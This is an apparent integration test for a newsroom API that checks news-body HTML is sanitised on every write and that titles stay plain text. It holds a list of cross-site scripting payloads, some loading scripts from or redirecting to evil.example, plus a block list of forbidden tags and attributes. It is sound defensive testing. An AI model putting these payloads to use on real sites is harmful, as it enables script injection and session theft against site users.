package org.newsdesk.editorial;

import static io.restassured.RestAssured.given;
import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.is;
import static org.hamcrest.Matchers.not;
import static org.hamcrest.Matchers.startsWith;
import static org.newsdesk.editorial.NewsWrites.read;
import static org.newsdesk.editorial.NewsWrites.valid;
import static org.newsdesk.editorial.Newsroom.MERGE_PATCH;
import static org.newsdesk.editorial.Newsroom.json;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.util.List;
import java.util.Locale;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.newsdesk.editorial.NewsWrites.Created;
import org.newsdesk.news.NewsFixture;

/**
 * Hostile HTML in news bodies is sanitised on every write (safe markup survives, links get rel); titles and
 * summaries are plain text and come back exactly as written.
 */
@QuarkusTest
class HostileMarkupIT {

    @RegisterExtension
    final NewsFixture news = new NewsFixture();
    private final NewsWrites writes = new NewsWrites(news);

    // --- Hostile HTML in bodies ----------------------------------------------------------------

    /** Markup that must never be stored, in any form. */
    private static final List<String> FORBIDDEN = List.of("<script", "</script", "<iframe", "<svg", "<style", "<object",
            "<embed", "<form", "<input", "<button", "<math", "<base", "<meta", "<link", "<noscript", "<div", "<details",
            "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:", "vbscript:", "data:", "style=",
            "srcdoc", "target=", "formaction");

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<script type=\"module\">import('https://evil.example/x.js')</script>",
        "<img src=\"x\" onerror=\"alert(1)\">",
        "<img src=\"https://example.org/a.png\" onerror=\"alert(1)\" alt=\"a\">",
        "<img src=x:alert(1) onerror=eval(src)>",
        "<p onclick=\"alert(1)\">click</p>",
        "<a href=\"https://example.org/x\" onmouseover=\"alert(1)\" target=\"_blank\">hover</a>",
        "<a href=\"javascript:alert(1)\">js</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">js</a>",
        "<a href=\"&#106;avascript:alert(1)\">js</a>",
        "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">js</a>",
        "<a href=\" javascript:alert(1)\">js</a>",
        "<a href=\"java\tscript:alert(1)\">js</a>",
        "<a href=\"vbscript:msgbox(1)\">vb</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">data</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<blockquote cite=\"javascript:alert(1)\">quote</blockquote>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<p style=\"background:url(javascript:alert(1))\">styled</p>",
        "<style>body{background:url(javascript:alert(1))}</style>",
        "<svg onload=\"alert(1)\"><circle r=\"1\"/></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)//<</script>/script>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<form action=\"https://evil.example\"><input name=\"x\"><button formaction=\"javascript:alert(1)\">go</button></form>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<base href=\"https://evil.example/\"><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
        "<div onclick=\"alert(1)\"><p>in a div</p></div>",
        "<details open ontoggle=alert(1)>",
        "<p>unclosed <strong>markup <a href=\"javascript:alert(1)\">and <img src=x onerror=alert(1)",
        "<p>NUL\u0000 inside <scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
    })
    void hostileMarkupNeverReachesTheStoredBody(String hostile) {
        Created item = writes.create(valid(b -> b.put("body", "<p>kept</p>" + hostile)));
        for (String stored : List.of(item.response().jsonPath().getString("body"),
                read(item.slug()).jsonPath().getString("body"),
                given().header("Authorization", Tokens.editor()).get("/api/v1/news/" + item.slug() + "/revisions/1")
                        .then().statusCode(200).extract().jsonPath().getString("content.body"))) {
            assertThat(stored, startsWith("<p>kept</p>"));
            String lower = stored.toLowerCase(Locale.ROOT);
            for (String forbidden : FORBIDDEN) {
                assertThat("stored body " + stored + " has " + forbidden, lower, not(containsString(forbidden)));
            }
            assertThat(stored, not(containsString("\u0000")));
        }
    }

    @Test
    void safeMarkupSurvivesAndLinksGetRel() {
        String body = "<h2>Heading</h2><p>Hello <strong>world</strong>, <em>you</em> and "
                + "<a href=\"https://example.org/x?a=1&amp;b=2\" title=\"T\">a link</a>.</p>"
                + "<ul><li>one</li><li><code>two</code></li></ul>"
                + "<blockquote cite=\"https://example.org/q\">quoted</blockquote>"
                + "<p><img src=\"https://example.org/a.png\" alt=\"An image\" width=\"10\" height=\"20\"></p>"
                + "<table><tbody><tr><td colspan=\"2\">cell</td></tr></tbody></table>"
                + "<p><a href=\"mailto:desk@example.org\">mail</a></p>";
        String expected = body
                .replace("title=\"T\">a link", "title=\"T\" rel=\"nofollow noopener\">a link")
                .replace("\">mail", "\" rel=\"nofollow noopener\">mail");
        Created item = writes.create(valid(b -> b.put("body", body)));
        assertThat(item.response().jsonPath().getString("body"), is(expected));
        assertThat(read(item.slug()).jsonPath().getString("body"), is(expected));
    }

    @Test
    void anEditorsRelAndTargetAreReplaced() {
        Created item = writes.create(valid(b -> b.put("body",
                "<p><a href=\"https://example.org/x\" rel=\"opener\" target=\"_blank\">x</a></p>")));
        assertThat(read(item.slug()).jsonPath().getString("body"),
                is("<p><a href=\"https://example.org/x\" rel=\"nofollow noopener\">x</a></p>"));
    }

    @Test
    void aBodyWithNothingSafeLeftIsNull() {
        Created item = writes.create(valid(b -> b.put("body", "<script>alert(1)</script><iframe></iframe>")));
        assertThat(read(item.slug()).jsonPath().getString("body"), is((String) null));
    }

    @Test
    void hostileMarkupIsCleanedOnPutAndPatchToo() {
        Created item = writes.create(valid());
        Response replaced = given().header("Authorization", Tokens.editor()).header("If-Match", item.etag())
                .contentType("application/json")
                .body(json(valid(b -> {
                    b.put("slug", item.slug());
                    b.put("body", "<p>put</p><script>alert(1)</script>");
                })))
                .put("/api/v1/news/" + item.slug());
        replaced.then().statusCode(200).body("body", is("<p>put</p>"));
        given().header("Authorization", Tokens.editor()).header("If-Match", replaced.header("ETag"))
                .contentType(MERGE_PATCH).body("{\"body\":\"<p onclick=\\\"alert(1)\\\">patch</p><img src=x onerror=alert(1)>\"}")
                .patch("/api/v1/news/" + item.slug()).then()
                .statusCode(200).body("body", is("<p>patch</p><img>"));
        assertThat(read(item.slug()).jsonPath().getString("body"), is("<p>patch</p><img>"));
    }

    // --- Titles and summaries are plain text -----------------------------------------------------

    @Test
    void aHostileTitleAndSummaryComeBackVerbatimAsJsonText() {
        String title = "<script>alert(\"t\")</script><img src=x onerror=alert(1)> & \"quotes\" <!-- c --> "
                + UUID.randomUUID();
        String summary = "<b onmouseover=alert(1)>bold?</b>\n<a href=\"javascript:alert(1)\">x</a> &amp; ]]>";
        Created item = writes.create(valid(b -> {
            b.put("title", title);
            b.put("summary", summary);
        }));
        item.response().then().contentType("application/json").body("title", is(title)).body("summary", is(summary));
        Response read = read(item.slug());
        read.then().contentType("application/json").body("title", is(title)).body("summary", is(summary));
        // The slug made from it is plain words.
        assertThat(item.slug(), startsWith("script-alert-t-script-img-src-x-onerror-alert-1-quotes-c-"));
        // Never served as anything but JSON.
        given().header("Authorization", Tokens.editor()).accept("text/html").get("/api/v1/news/" + item.slug())
                .then().statusCode(406);
    }
}
